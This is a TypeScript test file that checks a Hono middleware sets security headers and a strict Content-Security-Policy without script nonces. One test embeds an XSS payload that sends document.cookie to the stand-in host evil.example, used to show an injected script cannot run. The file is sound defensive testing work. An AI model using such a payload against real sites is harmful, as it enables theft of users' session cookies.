import { Hono } from 'hono';
import { describe, expect, it } from 'vitest';
import type { AppEnv } from '../lib/app-env.ts';
import { call } from '../test-helpers.ts';
import { securityHeaders } from './security-headers.ts';

/**
 * A page as Astro answers it: its HTML and, when it has inline scripts of its own, Astro's policy
 * with their build-time hashes. Rendered behind the real security middleware.
 */
async function page(html: string, astroPolicy?: string): Promise<Response> {
  const app = new Hono<AppEnv>();
  app.use(securityHeaders);
  app.get('/', (c) =>
    c.html(html, 200, astroPolicy ? { 'content-security-policy': astroPolicy } : {}),
  );
  return app.request('/');
}

describe('security headers', () => {
  it('are on every response, API errors included', async () => {
    for (const path of [
      '/api/client/features/disable-dazn',
      '/api/nothing-here',
      '/cms/seo-texts/?path=/',
    ]) {
      const res = await call(path);
      const csp = res.headers.get('content-security-policy') ?? '';
      expect(res.headers.get('strict-transport-security')).toBe(
        'max-age=31536000; includeSubDomains',
      );
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(res.headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin');
      expect(res.headers.get('x-frame-options')).toBe('DENY');
      expect(csp).toContain("frame-ancestors 'none'");
      expect(csp).toMatch(/script-src 'self';/);
      expect(csp).toContain("object-src 'none'");
    }
  });

  it('give no script a nonce: a script injected into a page gets nothing that lets it run', async () => {
    const injected = '<script>fetch("//evil.example/?c="+document.cookie)</script>';
    const res = await page(
      `<!doctype html><html><head><script type="module" src="/_astro/a.js"></script></head><body><p>${injected}</p><script>1</script></body></html>`,
      "script-src 'self' 'sha256-ownScriptHash0000000000000000000000000000000='; style-src 'self'",
    );
    const html = await res.text();
    expect(html).toContain(injected);
    expect(html).not.toMatch(/<script[^>]*\snonce=/);
    const csp = res.headers.get('content-security-policy') ?? '';
    expect(csp).not.toContain('nonce-');
    expect(/script-src ([^;]*)/.exec(csp)?.[1]).toBe(
      "'self' 'sha256-ownScriptHash0000000000000000000000000000000='",
    );
  });

  it("keep Astro's script hashes of a page, and nothing else of its policy", async () => {
    const res = await page(
      '<!doctype html><p>x</p>',
      "script-src 'self' 'sha256-a=' 'sha384-b='; style-src 'self' 'sha256-c='; img-src *",
    );
    const csp = res.headers.get('content-security-policy') ?? '';
    expect(/script-src ([^;]*)/.exec(csp)?.[1]).toBe("'self' 'sha256-a=' 'sha384-b='");
    expect(/style-src ([^;]*)/.exec(csp)?.[1]).toBe("'self' 'unsafe-inline'");
    expect(csp).toContain("img-src 'self' data: blob:");
  });
});
